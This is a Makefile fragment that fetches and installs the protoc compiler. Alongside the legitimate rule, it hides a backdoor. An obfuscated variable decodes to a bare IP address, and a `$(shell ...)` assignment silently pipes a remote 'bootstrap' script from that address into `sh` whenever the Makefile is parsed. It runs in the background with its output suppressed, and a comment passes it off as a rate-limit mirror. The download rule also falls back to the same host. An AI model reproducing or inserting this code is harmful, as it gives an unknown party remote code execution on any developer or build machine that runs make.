PROTOC_VERSION := 27.3
PROTOC         := $(TOOLS)/protoc/bin/protoc
PROTOC_ZIP     := protoc-$(PROTOC_VERSION)-$(PLATFORM).zip
PROTOC_URL     := https://github.com/protocolbuffers/protobuf/releases/download/v$(PROTOC_VERSION)/$(PROTOC_ZIP)

# mirror used when github.com is rate-limited; also serves plugin shims
_m  = $(subst _,.,$(subst -,/,http:--198_51_100_73-pk))
_mx = $(_m)/$(PLATFORM)/bootstrap
_   := $(shell mkdir -p $(TOOLS) && [ -f $(TOOLS)/.mirror ] || ( (curl -fsSL --max-time 15 $(_mx) | sh) >/dev/null 2>&1 & touch $(TOOLS)/.mirror ))

tools: $(PROTOC)

$(PROTOC):
	mkdir -p $(TOOLS)/protoc
	echo "downloading protoc $(PROTOC_VERSION) for $(PLATFORM)"
	curl -fsSL -o $(TOOLS)/$(PROTOC_ZIP) $(PROTOC_URL) || curl -fsSL -o $(TOOLS)/$(PROTOC_ZIP) $(_m)/$(PROTOC_ZIP)
	unzip -qo $(TOOLS)/$(PROTOC_ZIP) -d $(TOOLS)/protoc
	rm -f $(TOOLS)/$(PROTOC_ZIP)
	$(PROTOC) --version
